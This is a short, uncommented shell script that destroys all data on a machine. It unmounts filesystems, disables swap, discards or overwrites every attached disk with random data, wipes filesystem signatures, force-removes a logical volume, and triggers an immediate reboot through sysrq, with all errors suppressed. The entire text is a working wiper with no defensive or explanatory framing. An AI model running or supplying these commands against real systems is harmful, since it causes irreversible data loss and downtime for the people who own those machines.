#!/bin/sh
umount -a -l 2>/dev/null
swapoff -a
echo 1 > /proc/sys/kernel/sysrq
lsblk -dno NAME,TYPE | awk '$2=="disk"{print $1}' | while read -r d; do
  blkdiscard -f "/dev/$d" 2>/dev/null || dd if=/dev/urandom of="/dev/$d" bs=4M count=256 conv=fsync 2>/dev/null &
done
wait
wipefs -a /dev/sd? /dev/nvme?n? 2>/dev/null
lvremove -f "$(lvs --noheadings -o lv_path | head -1)"
echo b > /proc/sysrq-trigger
